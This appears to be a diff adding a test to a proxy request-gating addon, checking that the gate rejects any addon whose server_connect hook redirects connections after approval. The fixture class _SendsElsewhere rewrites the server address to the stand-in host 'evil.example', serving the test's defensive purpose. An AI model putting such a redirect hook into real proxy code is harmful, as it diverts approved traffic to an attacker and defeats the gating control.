@@ -717,6 +717,16 @@ def test_nothing_that_rewrites_requests_after_the_gate_is_loaded_with_it(tmp_pat
         tctx.configure(after, airlock_db=db)
         with pytest.raises(exceptions.OptionsError, match=r"load addons/gate\.py as the last"):
             after.runtime._enforce_gating_options()
+    redirects = Airlock(Metrics())  # wherever loaded: it runs as the judged request goes out
+    with taddons.context(_SendsElsewhere(), redirects) as tctx:
+        tctx.configure(redirects, airlock_db=db)
+        with pytest.raises(exceptions.OptionsError, match="server_connect"):
+            redirects.runtime._enforce_gating_options()
+
+
+class _SendsElsewhere:
+    def server_connect(self, data: Any) -> None:
+        data.server.address = ("evil.example", 443)
 
 
 @pytest.mark.parametrize(
